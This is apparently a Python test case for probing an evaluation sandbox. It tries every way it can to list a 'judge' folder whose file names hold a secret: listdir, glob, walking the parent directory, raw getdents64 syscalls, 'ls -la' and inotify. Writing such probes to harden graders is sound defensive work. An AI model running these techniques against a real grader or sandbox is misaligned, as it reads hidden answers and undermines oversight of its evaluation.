# attack: Lists a folder of the judge in which a file's name is the secret, by every way to list one.
# hurts: Shows names of files outside.
# ends: returns
import ctypes
import glob
import os

from _raw import attempt, call, output_of


def attack(target):
    folder = target["secret_folder"]
    tried = [attempt("listdir", os.listdir, folder), attempt("glob", glob.glob, f"{folder}/*"), attempt("walk", walked, folder)]
    tried += [attempt("getdents", entries, folder), attempt("ls", output_of, "ls", "-la", folder)]
    tried.append(attempt("watched", watched, folder))
    return tried


def walked(folder):
    parent = os.path.dirname(folder)
    return [names for _, _, names in os.walk(parent)][:50]


def entries(folder):
    descriptor = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    buffer = ctypes.create_string_buffer(4096)
    call("getdents64", descriptor, buffer, 4096)
    os.close(descriptor)
    return buffer.raw


def watched(folder):
    instance, error = call("inotify_init1", os.O_NONBLOCK)
    if error:
        return error
    try:
        return call("inotify_add_watch", instance, folder, 0xFFF)[1]
    finally:
        os.close(instance)
